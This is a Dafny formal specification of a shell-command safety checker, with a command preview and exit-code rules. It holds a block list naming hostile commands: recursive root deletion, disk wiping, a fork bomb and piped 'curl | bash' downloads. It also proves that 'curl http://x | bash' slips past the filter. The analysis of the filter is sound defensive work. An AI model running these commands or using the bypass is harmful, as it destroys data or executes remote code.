/**
 * The safety verdict and preview of a candidate command, and the exit code the
 * runners report for an abstract process outcome.
 */
module CommandExecutor {
  import opened Wrappers
  import opened Strings

  // ---------------------------------------------------------------- verdict

  /** `(is_safe, reason)`. */
  datatype Verdict = Verdict(isSafe: bool, reason: string)

  /** The system-critical keywords, in the order they are tried. */
  const DangerousKeywords: seq<string> := [
    "rm -rf /",
    "rm -rf /home",
    "rm -rf /usr",
    "rm -rf /etc",
    "dd if=/dev/zero",
    "mkfs",
    "fdisk",
    "format",
    ":(){ :|:& };:",
    "wget | bash",
    "curl | bash"
  ]

  const DangerousReason: string := "Command is potentially dangerous"
  const SafeReason: string := "Command appears safe"
  const KeywordReasonPrefix: string := "Command contains dangerous keyword: "

  /** The index of the first keyword of `ks` that occurs in `s`, if any. */
  function FirstHit(s: string, ks: seq<string>): (r: Option<nat>)
    ensures r.Some? ==> r.value < |ks| && Contains(s, ks[r.value])
    ensures r.Some? ==> forall j :: 0 <= j < r.value ==> !Contains(s, ks[j])
    ensures r.None? ==> forall j :: 0 <= j < |ks| ==> !Contains(s, ks[j])
    decreases |ks|
  {
    if |ks| == 0 then None
    else if Contains(s, ks[0]) then Some(0)
    else match FirstHit(s, ks[1..])
      case None => None
      case Some(i) => Some(i + 1)
  }

  /** What `validate_command_safety` returns, given the verdict of the external
      `is_dangerous_command` on the same command. */
  function SafetyVerdict(command: string, flagged: bool): Verdict {
    if flagged then Verdict(false, DangerousReason)
    else match FirstHit(Lower(command), DangerousKeywords)
      case Some(i) => Verdict(false, KeywordReasonPrefix + DangerousKeywords[i])
      case None => Verdict(true, SafeReason)
  }

  /** `validate_command_safety`: the external check first, then the keywords in order,
      the first one found in the lower-cased command deciding. */
  method ValidateCommandSafety(command: string, isDangerous: string -> bool) returns (isSafe: bool, reason: string)
    ensures isDangerous(command) ==> !isSafe && reason == DangerousReason
    ensures !isDangerous(command) && !isSafe ==>
      exists i :: (0 <= i < |DangerousKeywords| &&
        reason == KeywordReasonPrefix + DangerousKeywords[i] && Contains(Lower(command), DangerousKeywords[i]) &&
        forall j :: 0 <= j < i ==> !Contains(Lower(command), DangerousKeywords[j]))
    ensures isSafe <==> !isDangerous(command) && forall j :: 0 <= j < |DangerousKeywords| ==> !Contains(Lower(command), DangerousKeywords[j])
    ensures isSafe ==> reason == SafeReason
    ensures Verdict(isSafe, reason) == SafetyVerdict(command, isDangerous(command))
  {
    if isDangerous(command) {
      return false, DangerousReason;
    }
    var lower := Lower(command);
    for i := 0 to |DangerousKeywords|
      invariant forall j :: 0 <= j < i ==> !Contains(lower, DangerousKeywords[j])
    {
      if Contains(lower, DangerousKeywords[i]) {
        FirstHitIsFirst(lower, DangerousKeywords, i);
        return false, KeywordReasonPrefix + DangerousKeywords[i];
      }
    }
    FirstHitIsFirst(lower, DangerousKeywords, |DangerousKeywords|);
    return true, SafeReason;
  }

  /** `FirstHit` finds the first keyword that occurs, whichever it is. */
  lemma FirstHitIsFirst(s: string, ks: seq<string>, i: nat)
    requires i <= |ks|
    requires forall j :: 0 <= j < i ==> !Contains(s, ks[j])
    ensures i < |ks| && Contains(s, ks[i]) ==> FirstHit(s, ks) == Some(i)
    ensures i == |ks| ==> FirstHit(s, ks) == None
  {
    match FirstHit(s, ks)
    case None =>
    case Some(k) =>
  }

  /** The keyword stage is case-insensitive: commands equal after lower-casing get the same verdict. */
  lemma VerdictCaseInsensitive(a: string, b: string, flagged: bool)
    requires Lower(a) == Lower(b)
    ensures SafetyVerdict(a, flagged) == SafetyVerdict(b, flagged)
  {
  }

  /** The piped download of `CurlWithUrlPasses`. */
  const CurlExample := "curl http://x | bash"

  /** Matching is by literal substring: a URL between `curl` and `| bash` passes the keyword stage. */
  lemma CurlWithUrlPasses()
    ensures SafetyVerdict(CurlExample, false) == Verdict(true, SafeReason)
  {
    assert Lower(CurlExample) == CurlExample;
    CurlHasNoKeyword();
    NoKeywordFound(CurlExample);
  }

  lemma CurlHasNoKeyword()
    ensures var s := CurlExample;
      && !Contains(s, "rm -rf /") && !Contains(s, "rm -rf /home") && !Contains(s, "rm -rf /usr")
      && !Contains(s, "rm -rf /etc") && !Contains(s, "dd if=/dev/zero") && !Contains(s, "mkfs")
      && !Contains(s, "fdisk") && !Contains(s, "format") && !Contains(s, ":(){ :|:& };:")
      && !Contains(s, "wget | bash") && !Contains(s, "curl | bash")
  {
    CurlHasNoRemoval();
    CurlHasNoDiskKeyword();
    AbsentChar(CurlExample, ":(){ :|:& };:", 1);
    AbsentChar(CurlExample, "wget | bash", 0);
    CurlBarPosition();
  }

  lemma CurlHasNoRemoval()
    ensures var s := CurlExample;
      && !Contains(s, "rm -rf /") && !Contains(s, "rm -rf /home") && !Contains(s, "rm -rf /usr")
      && !Contains(s, "rm -rf /etc")
  {
    var s := CurlExample;
    assert 'm' !in s;
    AbsentChar(s, "rm -rf /", 1);
    AbsentChar(s, "rm -rf /home", 1);
    AbsentChar(s, "rm -rf /usr", 1);
    AbsentChar(s, "rm -rf /etc", 1);
  }

  lemma CurlHasNoDiskKeyword()
    ensures var s := CurlExample;
      !Contains(s, "dd if=/dev/zero") && !Contains(s, "mkfs") && !Contains(s, "fdisk") && !Contains(s, "format")
  {
    var s := CurlExample;
    assert 'd' !in s && 'f' !in s;
    AbsentChar(s, "dd if=/dev/zero", 0);
    AbsentChar(s, "mkfs", 2);
    AbsentChar(s, "fdisk", 0);
    AbsentChar(s, "format", 0);
  }

  /** A string holding none of the keywords has no first hit. */
  lemma NoKeywordFound(s: string)
    requires !Contains(s, "rm -rf /") && !Contains(s, "rm -rf /home") && !Contains(s, "rm -rf /usr")
    requires !Contains(s, "rm -rf /etc") && !Contains(s, "dd if=/dev/zero") && !Contains(s, "mkfs")
    requires !Contains(s, "fdisk") && !Contains(s, "format") && !Contains(s, ":(){ :|:& };:")
    requires !Contains(s, "wget | bash") && !Contains(s, "curl | bash")
    ensures FirstHit(s, DangerousKeywords) == None
  {
    FirstHitIsFirst(s, DangerousKeywords, |DangerousKeywords|);
  }

  /** "curl | bash" needs a `|` five characters after a `c`; the command has none. */
  lemma CurlBarPosition()
    ensures !Contains(CurlExample, "curl | bash")
  {
    var s, k := CurlExample, "curl | bash";
    forall i | 0 <= i <= |s| - |k| ensures !OccursAt(s, k, i) {
      if OccursAt(s, k, i) {
        OccursAtChar(s, k, i, 0);
        OccursAtChar(s, k, i, 5);
        assert false;
      }
    }
  }

  /** Any command containing `format` fails the keyword stage, an option such as `--format` included. */
  lemma FormatOptionFails(command: string)
    requires Contains(Lower(command), "format")
    requires forall j :: 0 <= j < 7 ==> !Contains(Lower(command), DangerousKeywords[j])
    ensures SafetyVerdict(command, false) == Verdict(false, KeywordReasonPrefix + "format")
  {
    FirstHitIsFirst(Lower(command), DangerousKeywords, 7);
  }

  /** The option-bearing listing of `FormatExample`. */
  const LsExample := "ls --format=long"

  lemma LsHasNoEarlierKeyword()
    ensures forall j :: 0 <= j < 7 ==> !Contains(LsExample, DangerousKeywords[j])
  {
    var s := LsExample;
    assert '/' !in s && 'd' !in s && 'k' !in s;
    AbsentChar(s, "rm -rf /", 7);
    AbsentChar(s, "rm -rf /home", 7);
    AbsentChar(s, "rm -rf /usr", 7);
    AbsentChar(s, "rm -rf /etc", 7);
    AbsentChar(s, "dd if=/dev/zero", 0);
    AbsentChar(s, "mkfs", 1);
    AbsentChar(s, "fdisk", 1);
  }

  /** `ls --format=long` is refused for containing `format`. */
  lemma FormatExample()
    ensures SafetyVerdict(LsExample, false) == Verdict(false, KeywordReasonPrefix + "format")
  {
    var s := LsExample;
    assert Lower(s) == s;
    assert OccursAt(s, "format", 5) by {
      assert s[5..11] == "format";
    }
    LsHasNoEarlierKeyword();
    FormatOptionFails(s);
  }

  // ---------------------------------------------------------------- preview

  const WarningSign: string := " ⚠️  "

  /** `get_command_preview`: the external description, with the warning and reason
      appended when the command is not safe. */
  method GetCommandPreview(command: string, describe: string -> string, isDangerous: string -> bool)
    returns (description: string)
    ensures SafetyVerdict(command, isDangerous(command)).isSafe ==> description == describe(command)
    ensures !SafetyVerdict(command, isDangerous(command)).isSafe ==>
      description == describe(command) + WarningSign + SafetyVerdict(command, isDangerous(command)).reason
  {
    description := describe(command);
    var isSafe, reason := ValidateCommandSafety(command, isDangerous);
    if !isSafe {
      description := description + WarningSign + reason;
    }
  }

  // ------------------------------------------------------------ exit codes

  /** How a `subprocess.run` call ended. `Interrupted` is Ctrl-C, which `except Exception`
      does not catch. */
  datatype ProcessOutcome = Exited(returnCode: int) | TimedOut | SpawnFailed | Interrupted

  /** What `run_shell_command` returns; `None` when the interrupt propagates. */
  function CapturedReturnCode(o: ProcessOutcome): Option<int> {
    match o
    case Exited(c) => Some(c)
    case TimedOut => Some(1)
    case SpawnFailed => Some(1)
    case Interrupted => None
  }

  /** How a streamed `Popen` run ended: the exit status `poll()` reports once output ends,
      an exception, or Ctrl-C. */
  datatype StreamOutcome = StreamExited(status: int) | StreamFailed | StreamInterrupted

  /** Python's `x or 0` on an integer. */
  function OrZero(x: int): int {
    if x != 0 then x else 0
  }

  /** What `run_shell_command_interactive` returns: `poll() or 0`, or 1 on an exception. */
  function InteractiveReturnCode(o: StreamOutcome): Option<int> {
    match o
    case StreamExited(s) => Some(OrZero(s))
    case StreamFailed => Some(1)
    case StreamInterrupted => None
  }

  /** Both runners report the child's own status, and 1 when it could not be run. */
  lemma RunnersAgree(status: int)
    ensures InteractiveReturnCode(StreamExited(status)) == CapturedReturnCode(Exited(status)) == Some(status)
    ensures InteractiveReturnCode(StreamFailed) == CapturedReturnCode(SpawnFailed) == Some(1)
  {
  }

  /** A run reports success (0) only when the child itself exited with 0: a timeout or a
      failure to spawn never reads as success. */
  lemma ZeroMeansExitedZero(o: ProcessOutcome)
    ensures CapturedReturnCode(o) == Some(0) <==> o == Exited(0)
  {
  }

  /** The commands run so far, and how each one would end when run. */
  class Shell {
    var executed: seq<string>
    const outcomeOf: (nat, string) -> ProcessOutcome

    constructor(outcomeOf: (nat, string) -> ProcessOutcome)
      ensures executed == [] && this.outcomeOf == outcomeOf
    {
      executed := [];
      this.outcomeOf := outcomeOf;
    }

    /** `run_shell_command`: the command is started (and logged) and its exit code returned. */
    method RunShellCommand(command: string) returns (code: Option<int>)
      modifies this
      ensures executed == old(executed) + [command]
      ensures code == CapturedReturnCode(outcomeOf(|old(executed)|, command))
    {
      code := CapturedReturnCode(outcomeOf(|executed|, command));
      executed := executed + [command];
    }
  }
}
